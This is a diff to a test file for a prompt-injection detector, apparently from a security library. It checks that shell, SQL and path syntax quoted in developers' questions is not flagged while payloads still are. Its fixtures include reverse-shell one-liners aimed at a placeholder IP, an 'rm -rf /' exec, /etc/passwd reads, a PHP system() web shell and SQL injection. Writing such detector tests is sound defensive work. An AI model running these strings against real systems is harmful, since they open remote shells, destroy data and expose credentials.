@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { InjectionDetector } from '../../src/security/injection-detector.js';
-import { executableMention, fencedBlockEnd, inlineCodeSpan, proseArguments } from '../../src/security/quoted-code.js';
+import { endsInWords, executableMention, fencedBlockEnd, inlineCodeSpan, proseAfterCall, proseArguments } from '../../src/security/quoted-code.js';
 
 // Code quoted inside prose (a developer's question, a markdown comment) versus the same syntax
 // breaking out of a value. Values written for these tests (not taken from a held-out set).
@@ -140,6 +140,10 @@ describe('SQL, paths and shell markers named in a question', () => {
     "select * from orders where status='open' returns duplicates",
     'why is `ls | wc -l` different from `ls -1 | wc -l`',
     'ping 192.0.2.1 works but ping example.com does not',
+    "find / -name '*.conf' 2>/dev/null takes forever",
+    "python os.system('ls') returns 0 instead of output",
+    "php exec('whoami') returns empty string",
+    "require('child_process').exec returns undefined",
     'ssh -i ~/keys/dev.pem user@host asks for a password',
     'rsync -e ssh copies nothing',
     'D:\\tools\\app\\setup.exe',
@@ -158,6 +162,11 @@ describe('SQL, paths and shell markers named in a question', () => {
     'select * from users where id = 1 or 1=1',
     '; ping -c 3 192.0.2.1 and more',
     'name `id`',
+    "system('id')",
+    "; system('cat /etc/passwd') #",
+    "x'; exec('rm -rf /') --",
+    "<?php system('id'); ?>",
+    'cat /etc/passwd',
     '; sh -i',
     'x; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
     'nc -e /bin/sh 192.0.2.1 4444',
@@ -168,5 +177,23 @@ describe('SQL, paths and shell markers named in a question', () => {
     '../../etc/passwd',
   ])('still an attack: %s', (v) => {
     expect(score(v)).toBeGreaterThanOrEqual(5);
+  });
+});
+
+describe('an exec call, a typed command line or parent segments followed by a sentence', () => {
+  it.each(['../../ vs ./ in node require', '../../../ is how you go up three folders', "os.popen('ls') output is empty", 'tail -n 100 /tmp/x.log shows nothing'])('not flagged: %s', (v) => {
+    expect(score(v)).toBeLessThan(5);
+  });
+  it.each(['../../', '../../etc/passwd is readable', 'q ../../ /etc/passwd', "system('id')", "; exec('id') and more", '; ping -c 3 192.0.2.1 and more'])('still an attack: %s', (v) => {
+    expect(score(v)).toBeGreaterThanOrEqual(5);
+  });
+  it('endsInWords and proseAfterCall read bounded windows', () => {
+    expect(endsInWords('x -y takes forever', 2)).toBe(true);
+    expect(endsInWords('x -y /etc/passwd', 2)).toBe(false);
+    expect(endsInWords('x -y a b', 2)).toBe(false);
+    const call = "system('ls') returns nothing";
+    expect(proseAfterCall(call, call.indexOf('('))).toBe(true);
+    expect(proseAfterCall("system('ls'); id", 6)).toBe(false);
+    expect(proseAfterCall(`system(${'a'.repeat(200)}) returns nothing`, 6)).toBe(false);
   });
 });
